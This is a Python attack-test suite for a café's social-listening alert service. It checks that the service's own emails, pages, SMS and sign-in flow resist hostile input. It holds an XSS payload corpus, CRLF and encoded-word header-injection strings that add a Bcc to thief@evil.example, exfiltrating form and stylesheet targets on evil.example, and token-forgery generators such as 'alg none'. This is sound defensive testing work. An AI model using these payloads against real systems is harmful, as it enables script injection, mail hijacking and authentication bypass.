"""The project's own attack suite (issue 14): what a stranger who can post on a network, or who
holds or guesses a link, can try, run through every surface on the local stack.

- Hostile strings (``CORPUS``: script tags and event handlers in text, attribute and URL
  contexts, javascript:/data: URLs, RFC 2047 encoded words, CR LF, bidi overrides, zero-width
  and confusable characters, a 100,000-character word, HTML fragments such as ``<![``), each
  as a mention's title, text, author and links, through: the instant email (every header,
  text part, HTML part), the assignment email, the daily digest email and its web view, the
  health notice, the action pages (confirm, snooze, assign, mute thread, the reply composer
  and the manual reply page, the "not relevant" result and its suggested exclusions), the
  SMS alert and an SMS REPLY. Headers are checked by parsing the bytes that would be sent;
  HTML (emails and pages) is rendered in headless Chromium with JavaScript on and no CSP
  (stricter than the served pages), every request refused and counted.
- Token attacks on the action links: every character of payload and signature changed,
  every truncation, re-encodings, expiry, issued-in-the-future, replay and concurrent replay,
  cross-recipient, cross-mention, cross-action, cross-route, cross-site POSTs, a rotated-out
  key, and SMS codes used from another recipient's phone.
- The inbox's sign-in: hostile addresses, ``next`` paths, cookies and link tokens; changed,
  replayed (eight at once) and cross-site links; session POSTs without their CSRF token.
- The webhook routes (#17, ``bench.webhooks.attacks``): forged ``X-Hub-Signature-256`` headers,
  oversized bodies, header, path and verification games: refused, nothing stored or sent.

Figures: ``attack_cases`` (attempts made), ``attack_through`` (any that got through: a header
added, a script run, a foreign load, a link other than http(s), a control character shown, a
forged token accepted, a replay acting twice; goal 0), ``header_injections`` (goal 0),
``scripts_run`` (goal 0). The ``through`` list names each failure.

    python -m bench.attacks
"""

from __future__ import annotations

import base64
import datetime as dt
import email
import email.policy
import json
import os
import re
import sys
import uuid
import zoneinfo
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Any

from chalicelib.actions.assign import assignment_email
from chalicelib.alerts import AlertBundle, AlertItem, DeliveryFailed
from chalicelib.alerts.email import EmailChannel, compose, message_bytes
from chalicelib.alerts.notices import compose_health_notice
from chalicelib.alerts.sms import compose as compose_sms
from chalicelib.config import ListenConfig, parse_config
from chalicelib.digest import build_digest, compose_digest, digest_page, render_html
from chalicelib.links import ActionToken, TokenSigner
from chalicelib.model import DigestDay, MatchedMention, Mention, RuleMatch, StoredMention
from chalicelib.sms_commands import InboundSms, handle
from chalicelib.store import Store, capped
from chalicelib.text import DIRECTION_CONTROLS
from chalicelib.triage import Triage
from chalicelib.web.pages import invalid_link
from chalicelib.web.service import ActionService

CHROMIUM = os.environ.get("CHROMIUM", "/usr/bin/chromium")
KEY = b"attack-suite-signing-key-0123456789abcdef"
OLD_KEY = b"attack-suite-rotated-out-key-0123456789ab"
BASE = "https://listen.beanthere.example"
SHORT = f"{BASE}/s/Ab3dE5gH"
PWN = "window.__pwned=1"
KEPT_NEW = frozenset({"hackernews#h0", "mastodon#h1", "hackernews#h2", "hackernews#h4"})  # the token attacks' mentions
CRLF_BCC = "\r\nBcc: thief@evil.example\r\nReply-To: thief@evil.example"
CORPUS: tuple[str, ...] = (
    f"<script>{PWN}</script>",
    f"<img src=x onerror=\"{PWN}\">",
    f"\"><svg onload={PWN}>",
    f"'><body onload={PWN}>",
    f"<a href=\"javascript:{PWN}\">click</a>",
    f"javascript:{PWN}",
    f" JaVaScRiPt:{PWN}",
    f"data:text/html,<script>{PWN}</script>",
    f"<iframe src=\"javascript:{PWN}\"></iframe>",
    f"<![CDATA[<script>{PWN}</script>]]>",
    f"<!--<script>{PWN}</script>-->",
    f"<![<script>{PWN}</script>",
    f"</textarea><script>{PWN}</script>",
    f"</title></style><script>{PWN}</script>",
    f"<svg><script>{PWN}</script></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={PWN}>",
    f"\" autofocus onfocus=\"{PWN}",
    f"' onmouseover='{PWN}' x='",
    "<style>body{background:url(https://evil.example/bg)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<base href=\"https://evil.example/\">",
    "<form action=\"https://evil.example/steal\"><button>Confirm</button></form>",
    f"&lt;script&gt;{PWN}&lt;/script&gt;",
    "{{ config }} {% for x in range(9) %}x{% endfor %} ${7*7} {author}",
    "=?UTF-8?B?" + base64.b64encode(CRLF_BCC.encode()).decode() + "?=",
    "=?UTF-8?Q?=0D=0ABcc:_thief@evil.example=0D=0AReply-To:_thief@evil.example?=",
    "=?ISO-8859-1?q?=0ABcc=3A_thief=40evil.example?=",
    CRLF_BCC,
    "\nSubject: hijacked\n\n<script>" + PWN + "</script>",
    "%0d%0aBcc:%20thief@evil.example",
    "\u202egnp.exe \u2066isolated\u2069 \u200fmark \u061c",
    "Be\u200ban The\u200dre \ufeff zero\u2060width",
    "\u0412\u0435\u0430n \u0422h\u0435r\u0435 \u0441\u0430f\u0435 (Cyrillic lookalikes)",
    "\x00\x07\x08\x1b[31mred\x1b[0m\x7f\x85\x9b",
    "line\u2028separator\u2029paragraph",
    "W" * 100_000,
    "https://evil.example/phish?next=javascript:alert(1) www.evil.example evil.example/x help@evil.example",
    "\U0001F600" * 50 + "\u0301" * 50,
)
_CONTROLS = re.compile(f"[\x00-\x08\x0b-\x1f\x7f-\x9f{DIRECTION_CONTROLS}]")
# Elements none of the service's emails and pages has: one found came from the text.
DANGEROUS = ("script, iframe, object, embed, img, svg, math, base, meta[http-equiv], link, frame, frameset, video, "
             "audio, source, button:not(form > button):not(form button)")
INSPECT = """() => {
  const bad = [];
  for (const el of document.querySelectorAll('*')) {
    for (const a of el.attributes) {
      if (a.name.startsWith('on')) bad.push(el.tagName + ' ' + a.name);
      if (['href', 'src', 'action', 'formaction', 'xlink:href', 'srcdoc', 'data', 'poster'].includes(a.name)
          && !/^(https?:\\/\\/[^\\s"'<>]+|\\/[^\\s"'<>]*|#.*|)$/.test(a.value)) bad.push(el.tagName + ' ' + a.name);
      if (!(el.tagName === 'A' && a.name === 'href') && /evil\\.example|__pwned/.test(a.value))
        bad.push(el.tagName + ' ' + a.name + ' marked');
    }
  }
  return {bad, dangerous: document.querySelectorAll(DANGEROUS_SELECTOR).length,
          pwned: typeof window.__pwned !== 'undefined'};
}""".replace("DANGEROUS_SELECTOR", json.dumps(DANGEROUS))


@dataclass
class Tally:
    """Attempts and what got through, by class."""

    cases: int = 0
    through: list[str] = field(default_factory=list)
    header_injections: int = 0
    scripts_run: int = 0

    def check(self, ok: bool, what: str) -> None:
        self.cases += 1
        if not ok:
            self.through.append(what)


CONFIG_TEXT = f"""\
business:
  name: Bean There Café
rules:
  - name: brand
    group: brand
    keywords: ["Bean There"]
  - name: espresso
    group: industry
    keywords: ["espresso"]
networks:
  hackernews: {{}}
  mastodon:
    base_url: https://mastodon.example
    access_token_parameter: /attacks/mastodon-token
recipients:
  - name: Maria
    email: maria@beanthere.example
    phone: "+351912345678"
    timezone: Europe/Lisbon
  - name: Ana
    email: ana@beanthere.example
    phone: "+351912345679"
    timezone: Europe/Lisbon
alerts:
  from_address: alerts@beanthere.example
  reply_to: owner@beanthere.example
  action_base_url: {BASE}
secrets:
  signing_key_parameter: /attacks/signing-key
"""


def hostile_mention(index: int, s: str) -> MatchedMention:
    """The string as everything a network decides: title, text, author, handle and links."""
    network = ("hackernews", "mastodon")[index % 2]
    url = s if s.strip().lower().startswith(("javascript:", "data:", "http")) else f"https://{network}.example/{index}"
    mention = Mention(network, f"h{index}", url, f"Bean There espresso {s} end", dt.datetime.now(dt.UTC),
                      title=f"Bean There {s}", kind="comment", author_name=s, author_handle=s[:200], author_url=s,
                      reach=3, thread={"root": f"r{index}"})
    start = mention.searchable_text.index("Bean There")
    triage = Triage(sentiment=-0.5, sentiment_label="negative", intents=frozenset({"question"}), priority=80,
                    reasons=("asks a question",), opportunity=True)
    return MatchedMention(mention, (RuleMatch("brand", "brand", True, ((start, start + 10),)),
                                    RuleMatch("espresso", "industry", False)), triage)


class Renderer:
    """Headless Chromium (JavaScript on, every request refused and counted): renders HTML and
    reports scripts run, foreign loads, handlers and unsafe links."""

    def __init__(self, browser: Any) -> None:
        self.context = browser.new_context()
        self.requests: list[str] = []
        self.dialogs: list[str] = []
        self.context.route("**/*", self._refuse)
        self.page = self.context.new_page()
        self.page.on("dialog", self._dialog)

    def _refuse(self, route: Any) -> None:
        self.requests.append(route.request.url)
        route.abort()

    def _dialog(self, dialog: Any) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def check(self, tally: Tally, surface: str, html: str, what: str) -> None:
        """One render: nothing runs, nothing loads, no handler, no unsafe link, no element the
        same surface does not have with harmless text."""
        self.requests.clear()
        self.dialogs.clear()
        self.page.evaluate("() => { delete window.__pwned; }")  # set_content keeps the window object
        self.page.set_content(html, wait_until="load")
        self.page.wait_for_timeout(20)  # an onload/onerror handler or a timer would have run by now
        found = self.page.evaluate(INSPECT)
        ran = found["pwned"] or bool(self.dialogs)
        if ran:
            tally.scripts_run += 1
        tally.check(not ran, f"{surface}: a script ran ({what})")
        tally.check(not self.requests, f"{surface}: foreign load {self.requests[:2]} ({what})")
        tally.check(not found["bad"], f"{surface}: handler or unsafe link {found['bad'][:3]} ({what})")
        tally.check(found["dangerous"] == 0, f"{surface}: {found['dangerous']} elements from the text ({what})")


def check_email(tally: Tally, surface: str, message: Any, expected: list[str], what: str,
                renderer: Renderer | None, *, parts: bool = True) -> None:
    """The bytes SES would get: the same headers, one line each; the text part free of control
    and direction characters; the HTML part rendered."""
    try:
        data = message_bytes(message)
    except DeliveryFailed as err:  # refused rather than sent: still a header the text tried to change
        tally.header_injections += 1
        tally.check(False, f"{surface}: not sent, {err} ({what})")
        return
    received = email.message_from_bytes(data, policy=email.policy.default)
    names = [name.lower() for name in received.keys()]
    injected = names != expected or any("\n" in str(v) or "\r" in str(v) for v in received.values())
    if injected:
        tally.header_injections += 1
    tally.check(not injected, f"{surface}: headers {names} ({what})")
    addresses = [a.addr_spec for name in ("from", "to", "reply-to", "cc", "bcc") for header in
                 received.get_all(name, []) for a in getattr(header, "addresses", ())]
    tally.check(all(a.endswith("@beanthere.example") for a in addresses),
                f"{surface}: an address from the text in a header {addresses} ({what})")
    if not parts:
        return
    plain = received.get_body(("plain",))
    text = plain.get_content() if plain is not None else ""
    tally.check(not _CONTROLS.search(text), f"{surface}: a control or direction character in the text part ({what})")
    html = received.get_body(("html",))
    if html is not None and renderer is not None:
        renderer.check(tally, surface, html.get_content(), what)


class DigestFake:
    """The digest's reads of one day holding one hostile mention."""

    def __init__(self, stored: StoredMention, day: str) -> None:
        self.stored = stored
        self.day = day

    def digest_days(self, days: Any, *, keys: Any = True) -> dict[str, DigestDay]:
        key = self.stored.key
        counts = {"total": {"all": 1}, "group": {"brand": 1}, "network": {self.stored.item.mention.network: 1}}
        return {self.day: DigestDay(self.day, counts, [key], [key])}

    def get_mentions(self, keys: Any) -> dict[str, StoredMention]:
        return {self.stored.key: self.stored}

    def held_back(self, days: Any) -> dict[str, str]:
        return {}  # nothing held back: the hostile mention is in the counts and the opportunities


def hostile_strings(tally: Tally, config: ListenConfig, store: Store, renderer: Renderer | None) -> None:
    """Every corpus string through every surface."""
    signer = TokenSigner(KEY)
    channel = EmailChannel(None, business=config.business.name, from_address=config.alerts.from_address,
                           reply_to=config.alerts.reply_to)
    service = ActionService(config, store, signer, email=channel)
    maria, ana = config.recipients
    alert_headers = ["subject", "from", "to", "reply-to", "message-id", "date", "list-unsubscribe",
                     "list-unsubscribe-post", "mime-version", "content-type"]
    mentions = [hostile_mention(i, s) for i, s in enumerate(CORPUS)]
    store.store_new_mentions(mentions, f"attack-{uuid.uuid4().hex[:8]}", lease_seconds=-1)
    now = dt.datetime.now(dt.UTC)
    for index, (s, matched) in enumerate(zip(CORPUS, mentions, strict=True)):
        what = f"corpus[{index}] {s[:24]!r}"
        stored = store.get_mention(matched.mention.key)
        tally.check(stored is not None and stored.item.mention.text == capped(matched).mention.text,
                    f"store: the text did not come back as written, up to the stored cap ({what})")
        if stored is None:
            continue
        links = {a: f"{BASE}/a/{signer.sign(stored.key, a, 'Maria')}" for a in ("reply", "handled", "assign")}
        bundle = AlertBundle(maria, (AlertItem(stored, links, urgent=True),), 1, SHORT,
                             unsubscribe=f"{BASE}/u/{signer.sign('recipient:Maria', 'unsubscribe', 'Maria')}")
        check_email(tally, "instant email", compose(bundle, business=config.business.name,
                                                    from_address=config.alerts.from_address,
                                                    reply_to=config.alerts.reply_to),
                    alert_headers, what, renderer)
        check_email(tally, "instant email, hostile business name",  # its headers (the name is the owner's)
                    compose(bundle, business=s, from_address=config.alerts.from_address, reply_to=None),
                    [h for h in alert_headers if h != "reply-to"], what, None, parts=False)
        check_email(tally, "assignment email", assignment_email(stored, maria, ana, config=config, signer=signer,
                                                                mailer=channel),
                    ["subject", "from", "to", "reply-to", "message-id", "date", "mime-version", "content-type"], what,
                    renderer)
        check_email(tally, "health notice", compose_health_notice(
            business=config.business.name, from_address=config.alerts.from_address, to_name="Maria",
            to_address="maria@beanthere.example", network="hackernews", down=True, error=s, failures=3),
            ["subject", "from", "to", "message-id", "date", "content-type", "content-transfer-encoding",
             "mime-version"],
            what, None)
        digest_surfaces(tally, config, stored, now, what, renderer)
        sms = compose_sms(bundle, SHORT)
        rest = sms.replace(SHORT, "")
        tally.check(sms.endswith(SHORT) and not re.search(r"(?i)://|www\.\w|javascript:|data:|evil\.example", rest),
                    f"SMS: a link other than the short link ({what})")
        tally.check(not _CONTROLS.search(sms), f"SMS: a control or direction character ({what})")
        page_surfaces(tally, service, signer, stored, what, renderer)
    sms_reply(tally, config, store, signer, mentions)


def digest_surfaces(tally: Tally, config: ListenConfig, stored: StoredMention, now: dt.datetime, what: str,
                    renderer: Renderer | None) -> None:
    fake = DigestFake(stored, now.date().isoformat())
    maria = config.recipients[0]
    digest = build_digest(config, fake, now=now, timezone=maria.timezone)
    tally.check(len(digest.opportunities) == 1, f"digest: the mention is missing ({what})")
    message = compose_digest(digest, maria, business=config.business.name, from_address=config.alerts.from_address,
                             reply_to=None, web_view_link=f"{BASE}/d/x", unsubscribe=f"{BASE}/u/x")
    check_email(tally, "digest email", message, ["subject", "from", "to", "message-id", "date",
                                                 "list-unsubscribe", "list-unsubscribe-post", "mime-version",
                                                 "content-type"],
                what, renderer)
    local = now.astimezone(zoneinfo.ZoneInfo(maria.timezone)).date().isoformat()
    token = ActionToken(f"digest:{local}", "digest", "Maria", int(now.timestamp()) + 60, "n")
    page = digest_page(config, fake, token)
    tally.check(page is not None and page.status == 200, f"digest web view: not shown ({what})")
    if page is not None and renderer is not None:
        renderer.check(tally, "digest web view", page.body, what)
    if renderer is not None:
        renderer.check(tally, "digest html", render_html(digest, business=config.business.name), what)


def page_surfaces(tally: Tally, service: ActionService, signer: TokenSigner, stored: StoredMention, what: str,
                  renderer: Renderer | None) -> None:
    for action in ("handled", "snooze", "assign", "mute_thread", "mute_author", "reply"):
        token = signer.sign(stored.key, action, "Maria")
        page = service.confirm_page(token, form_action=f"/a/{token}")
        tally.check(page.status == 200, f"{action} page: status {page.status} ({what})")
        surface = f"{action} page" + (f" ({stored.item.mention.network})" if action == "reply" else "")
        if renderer is not None:
            renderer.check(tally, surface, page.body, what)
    if stored.key in KEPT_NEW:
        return
    done = service.perform(signer.sign(stored.key, "not_relevant", "Maria"))  # exclusions suggested from the text
    tally.check(done.status == 200, f"not relevant result: status {done.status} ({what})")
    if renderer is not None:
        renderer.check(tally, "not relevant result", done.body, what)
    for action in re.findall(r'action="/a/([^"]+)"', done.body)[:3]:  # each suggested exclusion's confirmation
        page = service.confirm_page(action, form_action="/x")
        tally.check(page.status == 200, f"exclusion page: status {page.status} ({what})")
        if renderer is not None:
            renderer.check(tally, "exclusion page", page.body, what)


def sms_reply(tally: Tally, config: ListenConfig, store: Store, signer: TokenSigner,
              mentions: list[MatchedMention]) -> None:
    """REPLY by SMS with each corpus string: what is recorded to post has no control character."""
    clock = lambda: dt.datetime.now(dt.UTC).timestamp()  # noqa: E731
    store.put_short_link("Ab3dE5gH", signer.sign(mentions[0].mention.key, "handled", "Maria"),
                         int(clock()) + 3600)
    for s in CORPUS:
        if len(s) > 900:
            continue  # longer than an SMS REPLY takes: refused whole, nothing recorded
        sms = InboundSms("+351912345678", "+12065550142", "", f"REPLY Ab3dE5gH {s}", f"attack-{uuid.uuid4().hex}")
        handle(sms, config=config, store=store, signer=signer, clock=clock)
        tally.cases += 1
    for reply in store.replies():
        tally.check(not _CONTROLS.search(reply["text"]), f"SMS REPLY: a control character kept {reply['text'][:30]!r}")


# --- token attacks --------------------------------------------------------------------

B64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"


def _payload(token: str) -> dict[str, Any]:
    body = token.partition(".")[0]
    return dict(json.loads(base64.urlsafe_b64decode(body + "=" * (-len(body) % 4))))


def _encode(payload: dict[str, Any], key: bytes) -> str:
    import hashlib
    import hmac

    body = base64.urlsafe_b64encode(json.dumps(payload, separators=(",", ":")).encode()).rstrip(b"=").decode()
    signature = base64.urlsafe_b64encode(hmac.new(key, body.encode(), hashlib.sha256).digest()).rstrip(b"=").decode()
    return f"{body}.{signature}"


def forged_tokens(token: str) -> Iterator[tuple[str, str]]:
    """(what, token) of every alteration of a genuine token."""
    for i, char in enumerate(token):  # every character of payload, dot and signature changed
        replacement = B64[(B64.index(char) + 1) % 64] if char in B64 else "A"
        yield f"character {i} changed", token[:i] + replacement + token[i + 1:]
        yield f"character {i} removed", token[:i] + token[i + 1:]
    for cut in range(0, len(token), 3):
        yield f"truncated to {cut}", token[:cut]
    body, _, signature = token.partition(".")
    yield "padded", f"{body}==.{signature}="
    yield "standard base64", token.replace("-", "+").replace("_", "/")
    yield "swapped halves", f"{signature}.{body}"
    yield "upper case", token.upper()
    yield "lower case", token.lower()
    yield "percent-encoded", "".join(f"%{ord(c):02X}" for c in token)
    yield "fullwidth", "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in token)
    yield "spaces", f" {token} "
    yield "two dots", token.replace(".", "..")
    yield "no signature", f"{body}."
    yield "empty signature", body
    yield "doubled", f"{token}{token}"
    yield "huge", token + "A" * 5000
    payload = _payload(token)
    yield "re-serialized with spaces", base64.urlsafe_b64encode(json.dumps(payload).encode()).decode().rstrip(
        "=") + "." + signature
    for field_name, value in (("r", "Ana"), ("m", "hackernews#h0"), ("a", "handled"), ("e", 4_102_444_800),
                              ("k", "00000000")):
        yield f"{field_name} changed, old signature", _encode({**payload, field_name: value}, b"x" * 32).partition(
            ".")[0] + "." + signature
        yield f"{field_name} changed, signed with a guessed key", _encode({**payload, field_name: value}, b"x" * 32)
    yield "alg none", base64.urlsafe_b64encode(json.dumps({**payload, "alg": "none"}).encode()).decode() + "."


def token_attacks(tally: Tally, config: ListenConfig, store: Store) -> None:
    signer = TokenSigner(KEY, previous=[OLD_KEY])
    service = ActionService(config, store, signer)
    key = "mastodon#h1"  # stored by hostile_strings (corpus strings alternate Hacker News and Mastodon)
    refused = invalid_link().body

    def refused_everywhere(token: str, what: str, routes: tuple[str, ...] = ("a", "u")) -> None:
        for route in routes:
            pages = [service.confirm_page(token, form_action="/x", route=route),
                     service.perform(token, form=b"for=1h", route=route)]
            tally.check(all(p.status == 403 and p.body == refused for p in pages), f"token /{route}/: {what}")
        tally.check(service.digest_page(token).body == refused, f"token /d/: {what}")

    genuine = signer.sign(key, "not_relevant", "Maria")
    for what, forged in forged_tokens(genuine):
        if forged != genuine:  # e.g. "standard base64" of a token with no '-' or '_' in it
            refused_everywhere(forged, what, routes=("a",))
    now = int(dt.datetime.now(dt.UTC).timestamp())
    expired = TokenSigner(KEY, clock=lambda: now - 8 * 86400).sign(key, "handled", "Maria")
    future = TokenSigner(KEY, clock=lambda: now + 3600).sign(key, "handled", "Maria")
    for what, token in (
        ("expired", expired), ("issued in the future", future),
        ("unknown recipient", signer.sign(key, "handled", "Mallory")),
        ("unknown mention", signer.sign("hackernews#nope", "handled", "Maria")),
        ("unknown action", _encode({**_payload(genuine), "a": "delete_everything"}, KEY)),
        ("unsubscribe for another recipient", signer.sign("recipient:Ana", "unsubscribe", "Maria")),
        ("unsubscribe on /a/", signer.sign("recipient:Maria", "unsubscribe", "Maria")),
        ("digest on /a/", signer.sign("digest:2026-11-27", "digest", "Maria")),
        ("rule action for another rule", signer.sign("rule:nope", "raise_cap", "Maria")),
        ("an exclusion of a rule that does not exist", signer.sign("exclude:nope:x", "exclude", "Maria")),
        ("a rotated-out key", TokenSigner(b"rotated-out-long-ago-0123456789abcdef").sign(key, "handled", "Maria")),
    ):
        if what == "digest on /a/":  # a genuine digest link: /d/ shows it, /a/ and /u/ refuse it
            tally.check(all(p.status == 403 for route in ("a", "u") for p in (
                service.confirm_page(token, form_action="/x", route=route), service.perform(token, route=route))),
                "token: a digest link on /a/ or /u/")
            continue
        refused_everywhere(token, what, routes=("a",) if "unsubscribe for" not in what else ("a", "u"))
    for action in ("handled", "reply", "assign", "snooze"):  # cross-route: mention actions on /u/ and /d/
        token = signer.sign(key, action, "Maria")
        page = service.perform(token, route="u")
        tally.check(page.status == 403 and page.body == refused, f"token: {action} on /u/")
        tally.check(service.digest_page(token).body == refused, f"token: {action} on /d/")
    for headers in ({"Origin": "https://evil.example"}, {"Origin": "null"}, {"Sec-Fetch-Site": "cross-site"},
                    {"Sec-Fetch-Site": "same-site", "Origin": "https://evil.beanthere.example"}):
        for route, token in (("a", signer.sign(key, "handled", "Maria")),
                             ("u", signer.sign("recipient:Maria", "unsubscribe", "Maria"))):
            page = service.perform(token, route=route, headers=headers)
            tally.check(page.status == 403 and page.body == refused, f"cross-site POST on /{route}/: {headers}")
    tally.check(store.suppressed() == {}, "cross-site POST: an address was unsubscribed")
    rotated = TokenSigner(OLD_KEY).sign(key, "handled", "Maria")  # signed before the rotation: still works
    tally.check(service.confirm_page(rotated, form_action="/x").status == 200, "rotation: the previous key refused")
    rotated_out = ActionService(config, store, TokenSigner(KEY))  # the previous key removed
    tally.check(rotated_out.confirm_page(rotated, form_action="/x").body == refused, "rotation: a removed key works")

    stored = store.get_mention(key)
    tally.check(stored is not None and stored.state == "new", "tokens: the mention changed")
    tally.check(store.audit_log(key) == [], "tokens: something was audited")
    replays(tally, service, signer, store)
    sms_codes(tally, config, store, signer)


def replays(tally: Tally, service: ActionService, signer: TokenSigner, store: Store) -> None:
    key = "hackernews#h2"
    once = signer.sign(key, "handled", "Maria")
    pages = [service.perform(once) for _ in range(5)]
    tally.check([p.status for p in pages] == [200, 409, 409, 409, 409], "replay: a link acted twice")
    for action in ("not_relevant", "snooze", "mute_author"):  # concurrent replay of fresh links
        tokens = [signer.sign(key, action, "Maria")] * 8
        with ThreadPoolExecutor(8) as pool:
            statuses = sorted(pool.map(lambda token: service.perform(token).status, tokens))
        tally.check(statuses == [200] + [409] * 7, f"concurrent replay: {statuses}")
    tally.check(len(store.audit_log(key)) == 4, "replay: audited more than once per link")


def sms_codes(tally: Tally, config: ListenConfig, store: Store, signer: TokenSigner) -> None:
    """Codes sent to Maria, used from Ana's phone, or holding another kind of token."""
    key = "hackernews#h4"
    clock = lambda: dt.datetime.now(dt.UTC).timestamp()  # noqa: E731
    store.put_short_link("MariaOK1", signer.sign(key, "handled", "Maria"), int(clock()) + 3600)
    store.put_short_link("Unsubsc1", signer.sign("recipient:Ana", "unsubscribe", "Ana"), int(clock()) + 3600)
    store.put_short_link("Expired1", TokenSigner(KEY, clock=lambda: clock() - 8 * 86400).sign(key, "handled", "Ana"),
                         int(clock()) + 3600)
    for phone, text in (("+351912345679", "OK MariaOK1"), ("+351912345679", "SNOOZE MariaOK1 1w"),
                        ("+351912345679", "OK Unsubsc1"), ("+351912345679", "OK Expired1"),
                        ("+351912345679", "MUTE MariaOK1"), ("+351900000000", "OK MariaOK1")):
        sms = InboundSms(phone, "+12065550142", "", text, f"code-{uuid.uuid4().hex}")
        outcome = handle(sms, config=config, store=store, signer=signer, clock=clock)
        tally.check(outcome.done.startswith(("refused", "ignored")), f"SMS code: {text} from {phone}: {outcome.done}")
    stored = store.get_mention(key)
    tally.check(stored is not None and stored.state == "new", "SMS codes: the mention changed")



class _Mailbox:
    """The email channel's ``send_message`` for the sign-in attacks: what would have been sent."""

    business, from_address = "Bean There Café", "alerts@beanthere.example"

    def __init__(self) -> None:
        self.sent: list[tuple[Any, str]] = []

    def send_message(self, message: Any, to: str) -> str:
        self.sent.append((message, to))
        return "sent"


def sign_in_attacks(tally: Tally, config: ListenConfig, store: Store, renderer: Renderer | None) -> None:
    """The inbox's sign-in (chalicelib.web.session): hostile addresses and ``next`` paths, forged,
    replayed and cross-site links, forged cookies, and session POSTs without their CSRF token."""
    from chalicelib.web.session import COOKIE_NAME, Sessions, Viewer

    mailbox = _Mailbox()
    sessions = Sessions(config, store, email=mailbox)
    for index, s in enumerate(CORPUS):
        for address in (s, f"{s}@beanthere.example", f"maria@beanthere.example{s}"):
            page = sessions.request_link(address, f"198.51.100.{index % 250}", next_path=s)
            tally.check(page.status in (200, 400), f"sign-in: status {page.status} for {address[:40]!r}")
            if renderer is not None and address == s:
                renderer.check(tally, "sign-in answer", page.body, s[:40])
        form = sessions.sign_in_page(next_path=s)
        tally.check('name="next"' not in form.body or 'name="next" value="/in/' in form.body, f"next: {s[:40]!r}")
        tally.check(sessions.viewer({"Cookie": f"{COOKIE_NAME}={s}"}) is None, f"cookie: {s[:40]!r} accepted")
        tally.check(sessions.link_page(s).status == 403 and sessions.consume_link(s)[1] is None,
                    f"sign-in link: {s[:40]!r} accepted")
    tally.check(mailbox.sent == [], f"sign-in: {len(mailbox.sent)} emails sent to hostile addresses")
    sessions.request_link("maria@beanthere.example", "192.0.2.10")
    (message, _), = mailbox.sent
    token = re.findall(r"/in/link/([A-Za-z0-9_-]{43})", str(message.get_content()))[0]
    for position in range(0, len(token), 3):  # every third character changed
        changed = token[:position] + ("A" if token[position] != "A" else "B") + token[position + 1:]
        tally.check(sessions.consume_link(changed)[1] is None, "sign-in link: a changed token signed in")
    for headers in ({"Origin": "https://evil.example"}, {"Origin": "null"}, {"Sec-Fetch-Site": "cross-site"}):
        tally.check(sessions.consume_link(token, headers=headers)[1] is None, f"sign-in link: cross-site {headers}")
        tally.check(sessions.request_link("maria@beanthere.example", "192.0.2.11", headers=headers).status == 403,
                    f"sign-in request: cross-site {headers}")
    with ThreadPoolExecutor(8) as pool:  # one link confirmed eight times at once
        cookies = [cookie for _, cookie in pool.map(lambda _: sessions.consume_link(token), range(8)) if cookie]
    tally.check(len(cookies) == 1, f"sign-in link: {len(cookies)} sessions from one link")
    headers = {"Cookie": cookies[0].split(";", 1)[0]} if cookies else {}
    viewer = sessions.viewer(headers)
    tally.check(viewer is not None, "sign-in: the genuine session was refused")
    for body in (b"", b"csrf=", b"csrf=" + b"A" * 43, f"csrf={viewer.csrf if viewer else ''}&csrf=x".encode()):
        tally.check(not isinstance(sessions.checked_post(headers, body), Viewer), f"session POST: csrf {body[:20]!r}")
    tally.check(sessions.viewer(headers) is not None, "session POSTs: the session changed")

# --- the run --------------------------------------------------------------------------


@contextmanager
def _stack() -> Iterator[Store]:
    from offline.stack import LocalStack

    with LocalStack(table_name="social-listening-attacks") as stack:
        table = f"attacks-{uuid.uuid4().hex[:8]}"
        stack.create_table(table)
        for name, value in stack.env().items():
            os.environ.setdefault(name, value)
        yield Store(stack.client("dynamodb"), table)


@contextmanager
def _chromium() -> Iterator[Renderer | None]:
    if not (os.path.isfile(CHROMIUM) and os.access(CHROMIUM, os.X_OK)):
        raise SystemExit(f"Chromium not found at {CHROMIUM}: make browser-deps, or set CHROMIUM")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"])
        try:
            yield Renderer(browser)
        finally:
            browser.close()


def canaries(renderer: Renderer | None) -> None:
    """The checks see an attack that does get through (else they could never fail): raw HTML
    with a handler, a foreign load and an injected element; a header set without header_text."""
    from email.message import EmailMessage

    if renderer is not None:
        for html in (f"<img src=x onerror=\"{PWN}\">", "<link rel=stylesheet href=https://evil.example/x.css>",
                     f"<a href=\"javascript:{PWN}\">x</a>", f"<script>{PWN}</script>"):
            caught = Tally()
            renderer.check(caught, "canary", html, html)
            if not caught.through:
                raise RuntimeError(f"the renderer's checks missed {html!r}")
    raw = EmailMessage()
    raw["Subject"] = CORPUS[25]  # an encoded word, set as it is
    raw.set_content("x")
    caught = Tally()
    try:
        check_email(caught, "canary", raw, ["subject", "content-type", "content-transfer-encoding", "mime-version"],
                    "canary", None)
    except Exception:  # a Python with the CVE-2024-6923 fix refuses to write it at all
        caught.header_injections += 1
    if not caught.header_injections:
        raise RuntimeError("the header checks missed an encoded CR LF Bcc")


def attack(store: Store, renderer: Renderer | None) -> Tally:
    """Every attack against the store given (a fresh table) and Chromium (None: no rendering)."""
    canaries(renderer)
    config = parse_config(CONFIG_TEXT, "listen.yaml")
    tally = Tally()
    hostile_strings(tally, config, store, renderer)
    token_attacks(tally, config, store)
    sign_in_attacks(tally, config, store, renderer)
    from bench.webhooks import attacks as webhook_attacks

    webhook_attacks(tally.check, store)  # forged signatures, oversized bodies, header and path games (#17)
    return tally


def figures(tally: Tally) -> list[tuple[str, float]]:
    return [("attack_cases", tally.cases), ("attack_through", len(tally.through)),
            ("header_injections", tally.header_injections), ("scripts_run", tally.scripts_run)]


def run() -> list[tuple[str, float]]:
    with _stack() as store, _chromium() as renderer:
        tally = attack(store, renderer)
    for failure in tally.through[:20]:
        print(f"# through: {failure}", file=sys.stderr)
    return figures(tally)



if __name__ == "__main__":
    for name, value in run():
        print(f"{name}: {value}")
